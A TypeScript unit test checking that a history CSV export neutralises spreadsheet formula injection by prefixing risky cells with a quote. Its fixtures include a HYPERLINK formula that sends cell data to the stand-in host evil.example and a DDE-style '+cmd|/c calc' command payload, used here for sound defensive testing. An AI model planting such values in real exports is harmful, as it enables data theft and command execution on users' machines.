import { randomBytes } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { HISTORY_COLUMNS, historyCsv } from '../../main/core/storage/history-export.ts';
import { Journal } from '../../main/core/storage/journal.ts';
import { SecretBox } from '../../main/core/storage/secret-box.ts';

/** RFC 4180 cells of one CSV line (quoted cells may hold commas and doubled quotes). */
function cells(line: string): string[] {
  const out: string[] = [];
  let cell = '';
  let quoted = false;
  for (let index = 0; index < line.length; index++) {
    const char = line[index]!;
    if (quoted) {
      if (char === '"' && line[index + 1] === '"') {
        cell += '"';
        index++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      out.push(cell);
      cell = '';
    } else cell += char;
  }
  out.push(cell);
  return out;
}

describe('history CSV export', () => {
  // Text from a badge scan, a device or a cloud lands in the export; a spreadsheet opening it must not run it.
  it('defuses cells a spreadsheet would run as a formula (=, +, -, @, tab), keeping their text', () => {
    const journal = Journal.open(':memory:', new SecretBox(randomBytes(32)));
    const operator = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const unit = journal.startUnit('THERM00000000000042', '/dev/ttyACM0', { operator, slot: '@SUM(1+1)', stationId: '+cmd|/c calc', configHash: '\tTAB' });
    journal.finishUnit(unit.id, 'failed', { step: 'flash', error: '-2+3 the unit said so' });
    const [header, row] = historyCsv(journal.attempts()).split('\r\n');
    const parsed = Object.fromEntries(cells(row!).map((cell, index) => [HISTORY_COLUMNS[index], cell]));
    expect(header).toBe(HISTORY_COLUMNS.join(','));
    expect(parsed).toMatchObject({ operator: `'${operator}`, slot: "'@SUM(1+1)", stationId: "'+cmd|/c calc", configHash: "'\tTAB", error: "'-2+3 the unit said so", serial: 'THERM00000000000042' });
    for (const cell of cells(row!)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    journal.close();
  });
});
